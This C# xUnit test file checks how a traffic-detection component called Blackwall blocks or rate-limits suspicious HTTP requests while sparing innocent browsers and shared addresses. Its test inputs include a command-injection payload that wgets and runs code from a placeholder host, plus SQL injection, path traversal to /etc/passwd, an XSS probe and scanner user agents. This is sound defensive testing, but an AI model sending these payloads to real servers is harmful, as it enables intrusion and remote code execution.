using System.Globalization;
using Blackwall.Behavior.Settings;
using Blackwall.Pipeline.Model;
using Xunit;

namespace Blackwall.Tests.Behavior;

/// <summary>What another site makes a browser send, and what one of many people behind an address sends, blocks nobody.</summary>
public sealed class LedRequestTests
{
    private const string Person = "203.0.113.60";
    private const string Exploit = "/shell?cd+/tmp;wget+http://192.0.2.1/x;sh+x&id=1'+union+select+1,2--";

    // What a browser says over plain HTTP of a page that asks it for silence (Referrer-Policy: no-referrer).
    private const string Silent = "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0\r\nAccept-Language: de,en;q=0.5\r\nAccept-Encoding: gzip, deflate\r\n";

    private readonly Traffic _traffic = new();

    [Theory]
    [InlineData("GET", "Accept: image/avif,image/webp,image/png,image/svg+xml,image/*;q=0.8,*/*;q=0.5\r\n")]
    [InlineData("GET", "Accept: */*\r\n")]
    [InlineData("GET", "Accept: text/css,*/*;q=0.1\r\n")]
    [InlineData("GET", "Accept: text/html,application/xhtml+xml,*/*;q=0.8\r\nUpgrade-Insecure-Requests: 1\r\nCookie: a=b\r\n")]
    [InlineData("GET", "Accept: */*\r\nRange: bytes=0-\r\n")]
    [InlineData("HEAD", "Accept: application/json\r\n")]
    public void A_silent_page_of_another_site_limits_its_visitor_and_never_blocks_him(string method, string headers)
    {
        for (int i = 0; i < 400; i++)
        {
            // Exploits for some, and names of what the server does not have.
            string target = i % 4 == 0 ? $"/shell?cd+/tmp;wget+http://192.0.2.1/{i}" : $"/missing/{i}.png";
            _traffic.Wait(0.05).Request(Person, $"{method} {target} HTTP/1.1\r\nHost: www.example.org\r\n{Silent}{headers}\r\n");
            _traffic.Answer(Person, 404);
        }

        Assert.NotEmpty(_traffic.Decisions);
        Assert.All(_traffic.Decisions, d => Assert.Equal((Verdict.RateLimit, EvidenceClass.Spoofable), (d.Verdict, d.Evidence[0].Class)));
    }

    [Theory]
    [InlineData("Accept: image/webp,*/*\r\nReferer: http://www.example.org/forum/17\r\n")]
    [InlineData("Sec-Fetch-Site: same-origin\r\nSec-Fetch-Dest: image\r\n")]
    public void Pictures_that_somebody_posted_on_this_site_limit_its_readers_at_most(string headers)
    {
        for (int i = 0; i < 400; i++)
        {
            _traffic.Wait(0.05).Request(Person, $"GET /missing/{i}.png HTTP/1.1\r\nHost: www.example.org\r\n{Silent}{headers}\r\n");
            _traffic.Answer(Person, 404);
        }

        Assert.All(_traffic.Verdicts, v => Assert.Equal(Verdict.RateLimit, v));
        Assert.NotEmpty(_traffic.Decisions);
    }

    [Theory]
    [InlineData("User-Agent: Fuzz Faster U Fool v2.1.0-dev\r\nAccept-Encoding: gzip\r\n")]
    [InlineData("User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\r\nConnection: close\r\n")]
    [InlineData("User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)\r\nConnection: Keep-Alive\r\n")]
    [InlineData("User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36\r\nAccept: */*\r\nAccept-Encoding: *\r\nCache-Control: max-age=0\r\n")]
    [InlineData("User-Agent: curl/8.5.0\r\nAccept: */*\r\nAccept-Language: de\r\n")]
    [InlineData("")]
    public void Tools_that_look_for_what_is_there_are_blocked(string headers)
    {
        for (int i = 0; i < 400; i++)
        {
            _traffic.Wait(0.05).Request(Person, $"GET /word{i} HTTP/1.1\r\nHost: www.example.org\r\n{headers}\r\n");
            _traffic.Answer(Person, 404);
        }

        Assert.Contains(Verdict.Drop, _traffic.Verdicts);
    }

    [Theory]
    [InlineData("GET", "/a/../../../etc/passwd")]
    [InlineData("GET", "/static/%2e%2e/%2E./etc/passwd")]
    [InlineData("GET", "/..\\..\\windows\\win.ini?php://input")]
    [InlineData("GET", "/?q=<script>alert(1)</script>&f=/etc/passwd")]
    [InlineData("POST", "/shell?cd+/tmp;wget+http://192.0.2.1/x;sh+x")]
    public void What_no_browser_sends_in_silence_is_its_senders_own_whatever_he_calls_himself(string method, string target)
    {
        for (int i = 0; i < 4; i++)
        {
            string separator = target.Contains('?', StringComparison.Ordinal) ? "&" : "?";
            _traffic.Wait(0.5).Request(Person, $"{method} {target}{separator}n={i} HTTP/1.1\r\nHost: www.example.org\r\n{Silent}\r\n");
        }

        Assert.Contains(Verdict.Drop, _traffic.Verdicts);
    }

    [Theory]
    [InlineData("Sec-Fetch-Site: cross-site\r\nSec-Fetch-Mode: no-cors\r\nSec-Fetch-Dest: image\r\n")]
    [InlineData("Sec-Fetch-Site: same-site\r\n")]
    [InlineData("Sec-Fetch-Mode: no-cors\r\n")]
    [InlineData("Referer: http://evil.example/page\r\n")]
    [InlineData("Referer: https://www.example.org.evil.example/\r\n")]
    [InlineData("Origin: https://evil.example\r\n")]
    [InlineData("Origin: null\r\n")]
    [InlineData("Accept: image/avif,image/webp,*/*\r\n")]
    public void Images_of_another_site_limit_and_are_told_and_block_nobody(string headers)
    {
        for (int i = 0; i < 60; i++)
        {
            _traffic.Wait(0.5).Request(Person, $"GET {Exploit}&n={i} HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/5.0\r\n{headers}\r\n");
        }

        Assert.Equal([Verdict.RateLimit], _traffic.Verdicts);
        Assert.Equal(("http-probe", EvidenceClass.Spoofable), (_traffic.Decisions[0].Reason, _traffic.Decisions[0].Evidence[0].Class));
        Assert.Contains(_traffic.Recorded, e => e is { Kind: "dpi-rule", Class: EvidenceClass.Spoofable });
    }

    [Theory]
    [InlineData("GET", "")]
    [InlineData("GET", "Sec-Fetch-Site: same-origin\r\n")]
    [InlineData("GET", "Sec-Fetch-Site: none\r\n")]
    [InlineData("GET", "Referer: https://www.example.org:8080/page\r\nOrigin: https://WWW.example.org\r\n")]
    [InlineData("GET", "Referer: ' or 1=1\r\n")]
    [InlineData("PROPFIND", "Origin: https://evil.example\r\n")]
    [InlineData("GET", "User-Agent: sqlmap/1.7\r\nReferer: http://evil.example/\r\n")]
    public void What_no_other_site_can_make_a_browser_send_is_its_senders_own(string method, string headers)
    {
        for (int i = 0; i < 3; i++)
        {
            _traffic.Wait(0.5).Request(Person, $"{method} {Exploit}&n={i} HTTP/1.1\r\nHost: www.example.org\r\n{headers}\r\n");
        }

        Assert.Contains(Verdict.Drop, _traffic.Verdicts);
    }

    [Fact]
    public void One_request_never_blocks_a_user_and_a_few_do()
    {
        for (int i = 0; i < 5; i++)
        {
            _traffic.Use(Person, 443, remotePort: 50_000 + i);
        }

        _traffic.Wait(1).Request(Person, $"GET {Exploit} HTTP/1.1\r\nHost: a\r\n\r\n");
        Assert.Empty(_traffic.Decisions);
        for (int i = 0; i < 4; i++)
        {
            _traffic.Wait(1).Request(Person, $"GET {Exploit}&n={i} HTTP/1.1\r\nHost: a\r\n\r\n");
        }

        Assert.Equal([Verdict.Drop], _traffic.Verdicts);
    }

    [Fact]
    public void A_link_that_a_browser_follows_without_saying_from_where_does_not_block_it()
    {
        _traffic.Request(Person, $"GET {Exploit} HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: text/html\r\nAccept-Language: de\r\n\r\n");
        Assert.Empty(_traffic.Decisions);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void One_of_many_people_behind_an_address_does_not_block_the_others(bool isNamed)
    {
        var traffic = isNamed ? new Traffic(new DetectionOptions { Proxies = [Prefix.Parse("203.0.113.0/24")] }) : _traffic;
        if (!isNamed)
        {
            for (int i = 0; i < 12; i++)
            {
                traffic.Wait(5).Request(Person, string.Create(CultureInfo.InvariantCulture, $"GET /page/{i} HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/5.0 (device {i})\r\n\r\n"), remotePort: 50_000 + i);
                traffic.Use(Person, 443, remotePort: 51_000 + i);
            }
        }

        for (int i = 0; i < 20; i++)
        {
            traffic.Wait(1).Request(Person, $"GET {Exploit}&n={i} HTTP/1.1\r\nHost: a\r\nUser-Agent: tool\r\n\r\n");
            traffic.Use(Person, 3389, remotePort: 52_000 + i, bytesIn: 900, bytesOut: 2400);
        }

        Assert.NotEmpty(traffic.Decisions);
        Assert.All(traffic.Verdicts, verdict => Assert.Equal(Verdict.RateLimit, verdict));
        Assert.Contains(traffic.Decisions.Select(d => d.Evidence[0]), e => e.Detail.Contains("many people share this address", StringComparison.Ordinal));
    }

    [Fact]
    public void A_nonce_that_has_run_out_is_no_wrong_password()
    {
        for (int i = 0; i < 60; i++)
        {
            // Every minute's visit has an old nonce first and the right password again with the new one.
            _traffic.Wait(60).Request(Person, $"GET /a HTTP/1.1\r\nHost: a\r\nAuthorization: Digest username=\"me\", nonce=\"old{i}\", response=\"{i}\"\r\n\r\n");
            _traffic.Answer(Person, 401 | 0x10000);
            _traffic.Wait(0.1).Request(Person, $"GET /a HTTP/1.1\r\nHost: a\r\nAuthorization: Digest username=\"me\", nonce=\"new{i}\", response=\"{i}x\"\r\n\r\n");
        }

        Assert.Empty(_traffic.Decisions);
        Assert.DoesNotContain(_traffic.Recorded, e => e.Kind is "brute-force");
    }

    [Fact]
    public void A_server_that_does_not_say_that_a_nonce_is_old_is_understood_by_what_it_takes_then()
    {
        for (int i = 0; i < 60; i++)
        {
            _traffic.Wait(60).Request(Person, $"GET /a HTTP/1.1\r\nHost: a\r\nAuthorization: Digest username=\"me\", nonce=\"old{i}\", response=\"{i}\"\r\n\r\n");
            _traffic.Answer(Person, 401);
            for (int page = 0; page < 2; page++)
            {
                _traffic.Wait(0.2).Request(Person, $"GET /{page} HTTP/1.1\r\nHost: a\r\nAuthorization: Digest username=\"me\", nonce=\"new{i}\", response=\"{i}x{page}\"\r\n\r\n");
            }
        }

        Assert.Empty(_traffic.Decisions);
    }
}
